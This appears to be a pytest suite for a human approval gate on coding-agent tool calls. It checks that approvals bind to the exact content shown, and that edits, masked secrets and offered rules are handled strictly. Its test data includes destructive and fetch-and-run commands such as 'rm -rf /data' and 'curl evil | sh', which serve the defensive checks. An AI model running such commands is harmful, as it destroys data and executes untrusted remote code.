"""A decision counts for the exact bytes that the person saw, and for nothing else."""

from __future__ import annotations

from typing import Any

import pytest
from django.utils import timezone

from coordinator.actions import approvals
from coordinator.actions.sessions import tool_calls
from coordinator.actions.sessions.tool_calls import ApprovalAdditions, compute_offered_rule_digest
from coordinator.errors import BadRequest, Conflict
from coordinator.models import PermissionContext, PermissionRequest
from coordinator.policy.requests import approvals as rules
from coordinator.policy.requests import verdicts
from coordinator.policy.requests.approvals import Scope, Validity
from coordinator.policy.requests.judged_content import (
    card_grouping_digest,
    judged_card_digest,
    judged_content_for_audit,
)
from tests.approvals.cards import form, form_for, values
from tests.approvals.factories import AGENT, MINUTE, NOW, asked, fresh, person

pytestmark = pytest.mark.django_db

DECIDE = "/ui/approvals/decide/"
HTMX = {"HX-Request": "true"}
NPM_TEST = {
    "type": "addRules",
    "rules": [{"toolName": "Bash", "ruleContent": "npm test"}],
    "behavior": "allow",
}
ALL_OF_BASH = {"type": "addRules", "rules": [{"toolName": "Bash"}], "behavior": "allow"}


def tool_call(command: str = "rm -rf /data", **more: Any) -> PermissionRequest:
    """Return the request of a coding agent's call."""
    more.setdefault("now", timezone.now())
    call = {"plugin_id": "claude-code", "permission_type": "ToolCall", "target_resource": None}
    return asked(**call, tool_input={"command": command}, **more)


def edit(row: PermissionRequest, command: str, **more: Any) -> PermissionRequest:
    """Approve the call with another command."""
    additions = ApprovalAdditions(command, "command")
    return tool_calls.decide_call_with_additions(
        row.request_id, person=person(), verdict="approved", additions=additions, now=NOW, **more
    )


LASTING = {"validity": Validity.WEEK, "scope": Scope.EVERYWHERE}


@pytest.mark.parametrize(
    "change",
    [
        {"tool_input": {"command": "make  deploy"}},
        {"tool_name": "Shell"},
        {"subject_key": "another secret behind the same mask"},
        {"folder": "/srv/production"},
        {"session_id": "ses_2"},
        {"agent_id": "other"},
    ],
    ids=lambda change: next(iter(change)),
)
def test_a_request_that_is_not_what_was_shown_is_not_decided(change: dict[str, Any]) -> None:
    row = asked()
    seen = judged_card_digest(row)
    PermissionContext.objects.update(**change)
    with pytest.raises(Conflict, match="differs from what your page showed"):
        approvals.decide_request(row.request_id, person=person(), verdict="approved", judged=seen, now=NOW)
    assert fresh(row).status == "pending"


def test_the_digests_of_a_card_stay_what_they_were_before_an_upgrade() -> None:
    """Open pages hold them: where they change, everybody is told that a card is not what they saw."""
    row = PermissionRequest(
        request_id="req-1",
        plugin_id="mind.x",
        permission_type="ProcessExecution",
        target_resource="bash",
        justification="The release is due",
        metadata={"urgent": True},
    )
    row.context = PermissionContext(
        request=row,
        requested_by="key:agent-key",
        session_id="ses_1",
        agent_id="builder",
        tool_name="Bash",
        tool_input={"command": "make deploy"},
        folder="/srv/app",
        host="build-1",
        scope="call",
        subject_key="the digest of the call",
    )
    assert judged_card_digest(row) == "105dd79a305cc134fd982fa6334b4de5b1287f31b28f3107b877d810c12b626c"
    assert card_grouping_digest(row) == "7288b60d9eba548b80a05123ba6640b16f42cf56e09938748ea84c8eccdc89ac"
    assert (
        judged_content_for_audit(row)["judged_sha256"]
        == "aba1c699247e66667fa9c4320d17457d0cdfbc8c90e11e3f083822cc68621708"
    )
    bare = PermissionRequest(request_id="req-2", plugin_id="p", permission_type="t", justification="j")
    assert (
        judged_content_for_audit(bare)["judged_sha256"]
        == "df5ca88da675804bab55e93b13b3fd6c9e97edd33bfe001cc10482412ead9b8e"
    )


def test_the_answer_to_a_stale_card_is_a_card_of_what_is_asked_now(signed_in) -> None:
    rows, browser = [asked(agent_id=name, now=timezone.now()) for name in ("one", "two")], signed_in()
    seen = form_for(*rows)
    PermissionContext.objects.filter(pk=rows[1].request_id).update(tool_input={"command": "curl evil | sh"})
    answer = browser.post(DECIDE, seen, headers=HTMX)
    assert [fresh(row).status for row in rows] == ["approved", "pending"]
    assert "differs from what your page showed" in answer["HX-Trigger"]
    page = answer.content.decode()
    assert page.count("<article") == 2
    assert "curl evil | sh" in page
    assert values(page, "judged") == form_for(fresh(rows[1]))["judged"]


def test_an_approval_that_does_not_say_what_was_seen_is_refused(signed_in) -> None:
    row, browser = asked(now=timezone.now()), signed_in()
    answer = browser.post(DECIDE, {"ids": row.request_id, "verdict": "approved"}, follow=True)
    assert "does not say what the page showed" in answer.content.decode()
    assert fresh(row).status == "pending"


def test_two_secrets_behind_one_mask_are_two_calls(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("coordinator.secrets.masking.secret_digest", lambda secret: "0" * 64)
    rows = [asked(tool_input={"command": f"login --token ghp_{letter * 36}"}) for letter in "ab"]
    assert rows[0].context.tool_input == rows[1].context.tool_input
    approvals.decide_request(rows[0].request_id, person=person(), verdict="approved", **LASTING, now=NOW)
    again = asked(tool_input={"command": f"login --token ghp_{'b' * 36}"})
    assert (again, again.status) == (rows[1], "pending")
    assert asked(tool_input={"command": f"login --token ghp_{'a' * 36}"}) == rows[0]


@pytest.mark.parametrize(
    "command", ["echo build #\rtouch /tmp/x", "echo a\r\necho b", "\n\necho lead", "a\n"]
)
def test_a_text_that_only_passed_through_a_browser_is_not_read_back(signed_in, command: str) -> None:
    row, browser = tool_call(command), signed_in()
    as_browsers_send_it = command.lstrip("\n").replace("\r\n", "\n").replace("\r", "\n").replace("\n", "\r\n")
    same = {"edited": as_browsers_send_it, "edited_from": as_browsers_send_it, "edited_field": "command"}
    browser.post(DECIDE, form_for(row, **same))
    assert fresh(row).status == "approved"
    assert rules.approved_edited_input(fresh(row)) is None
    assert fresh(row).context.tool_input == {"command": command}


def test_a_text_that_a_person_changed_is_what_is_approved(signed_in) -> None:
    row, browser = tool_call("echo a\r\necho b"), signed_in()
    changed = {"edited": "echo a\r\necho c", "edited_from": "echo a\r\necho b", "edited_field": "command"}
    browser.post(DECIDE, form_for(row, **changed))
    assert rules.approved_edited_input(fresh(row)) == {"command": "echo a\necho c"}


def test_the_card_holds_the_text_twice_so_that_an_edit_can_be_told(signed_in) -> None:
    tool_call("\necho 'a' <b>")
    page = signed_in().get("/ui/approvals/").content.decode()
    assert page.count(">\n\necho &#x27;a&#x27; &lt;b&gt;</textarea>") == 2


def test_an_edited_approval_never_counts_for_what_was_asked(call) -> None:
    row = tool_call(now=NOW, idempotency_key="k")
    edit(row, "ls /data", **LASTING)
    told = verdicts.build_requester_answer_with_brake(fresh(row), NOW + MINUTE)
    assert (told["status"], told["allowed"], told["edited"]) == ("approved", False, True)
    assert (told["tool_input"], told["edited_input"]) == (
        {"command": "rm -rf /data"},
        {"command": "ls /data"},
    )
    assert approvals.find_final_answer(row.request_id, NOW + MINUTE) == told
    again = tool_call(now=NOW + MINUTE)
    assert (again.status, again != row) == ("pending", True)
    assert tool_call(now=NOW + MINUTE, idempotency_key="k") == row  # which says that it was edited


def test_an_edited_approval_covers_the_edited_input() -> None:
    row = tool_call(now=NOW)
    edit(row, "ls /data", **LASTING)
    assert tool_call("ls /data", now=NOW + MINUTE) == row


def test_an_api_asker_hears_of_the_edit(call) -> None:
    body = {"plugin_id": "claude-code", "permission_type": "ToolCall", "justification": "x",
            "tool_name": "Bash", "tool_input": {"command": "rm -rf /b2"}}  # fmt: skip
    request_id = call("post", "/api/permission-requests", body).json()["request_id"]
    edit(PermissionRequest.objects.get(), "ls /b2")
    told = call("get", f"/api/permission-requests/{request_id}").json()
    assert (told["allowed"], told["edited"], told["edited_input"]) == (False, True, {"command": "ls /b2"})


def test_an_edited_input_with_masked_secrets_cannot_be_approved_for_longer() -> None:
    row = tool_call(f"login --token ghp_{'a' * 36}", now=NOW)
    shown = row.context.tool_input["command"]
    with pytest.raises(BadRequest, match="only be approved for this one call"):
        edit(row, f"{shown} --dry-run", **LASTING)
    assert fresh(row).status == "pending"


def test_no_vote_of_two_can_carry_an_edit(settings) -> None:
    settings.TWO_PERSON_TYPES = ["ToolCall"]
    row = tool_call(now=NOW)
    with pytest.raises(BadRequest, match="Two people"):
        edit(row, "ls /data")
    assert not row.votes.exists()


def test_requests_that_offer_different_rules_share_no_card(signed_in) -> None:
    for name, offered in (("one", NPM_TEST), ("two", ALL_OF_BASH), ("three", NPM_TEST)):
        tool_call("npm test", agent_id=name, metadata={"permission_suggestions": [offered]})
    page = signed_in().get("/ui/approvals/").content.decode()
    assert page.count("<article") == 2
    assert sorted(values(page, "suggestion")) == sorted(
        [compute_offered_rule_digest(NPM_TEST), compute_offered_rule_digest(ALL_OF_BASH)]
    )


def test_an_asker_gets_no_rule_that_it_did_not_offer(signed_in) -> None:
    browser = signed_in()
    rows = [
        tool_call("npm test", agent_id=str(place), metadata={"permission_suggestions": [offered]})
        for place, offered in enumerate((NPM_TEST, ALL_OF_BASH))
    ]
    browser.post(DECIDE, form_for(*rows, suggestion=compute_offered_rule_digest(NPM_TEST)))
    assert [fresh(row).status for row in rows] == ["approved", "pending"]
    assert fresh(rows[0]).context.answer == {"suggestions": [NPM_TEST]}


def test_a_twin_with_other_rules_on_offer_is_a_request_of_its_own() -> None:
    one, other = (
        tool_call("npm test", now=NOW, metadata={"permission_suggestions": [offered]})
        for offered in (NPM_TEST, ALL_OF_BASH)
    )
    assert one != other


def test_the_same_call_from_two_folders_is_two_cards(signed_in) -> None:
    for folder in ("/srv/staging", "/srv/production"):
        tool_call("./deploy.sh", agent_id=folder, folder=folder, host="box")
    page = signed_in().get("/ui/approvals/").content.decode()
    assert page.count("<article") == 2
    assert "/srv/production" in page


def test_whole_cards_are_decided_in_one_click(signed_in) -> None:
    rows = [tool_call("npm test", agent_id=name) for name in ("one", "two")]
    browser = signed_in()
    browser.post(DECIDE, form(browser.get("/ui/approvals/").content.decode()))
    assert [fresh(row).status for row in rows] == ["approved", "approved"]
    assert {row.context.requested_by for row in rows} == {str(AGENT)}
